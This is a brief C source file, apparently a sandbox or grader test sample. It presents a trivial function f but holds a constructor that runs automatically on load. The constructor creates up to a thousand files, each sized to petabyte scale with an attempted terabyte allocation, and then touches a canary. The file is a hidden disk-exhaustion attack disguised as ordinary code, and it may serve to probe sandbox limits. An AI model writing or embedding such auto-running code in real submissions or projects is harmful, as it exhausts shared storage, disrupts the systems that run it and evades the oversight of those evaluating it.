#include "canary.h"
__attribute__((constructor)) static void early(void) {
  char name[32];
  for (int i = 0; i < 1000; i++) {
    snprintf(name, sizeof name, "sparse%d", i);
    int file = open(name, O_CREAT | O_RDWR, 0666);
    if (file < 0) break;
    ftruncate(file, 1LL << 50);
    fallocate(file, 0, 0, 1LL << 40);
    pwrite(file, "x", 1, 1LL << 45);
    close(file);
  }
  touch_canary();
}
int f(int x) { return x > 3; }
